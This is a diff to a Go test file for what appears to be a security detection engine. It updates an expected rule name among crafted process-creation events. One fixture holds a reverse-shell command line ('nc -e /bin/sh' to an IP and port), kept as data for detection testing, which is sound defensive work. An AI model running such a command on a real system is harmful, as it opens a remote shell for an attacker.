@@ -134,7 +134,7 @@ func TestEngineCraftedEvents(t *testing.T) {
 		{"contains all incomplete", ev(event.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket'", "User", "root"),
 			nil, []string{"One Of Them (test)"}},
 		{"all of them", ev(event.ProcessCreation, "Image", "/usr/bin/curl", "CommandLine", "curl http://x", "User", "root"),
-			[]string{"All Of Them With Undefined (test)"}, nil},
+			[]string{"All Of Them (test)"}, nil},
 		{"regex only", ev(event.ProcessCreation, "Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 1.2.3.4 4444", "User", "root"),
 			[]string{"Regex Only (test)", "One Of Them (test)"}, nil},
 		{"numbers and not", ev(event.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/bin/python3"),
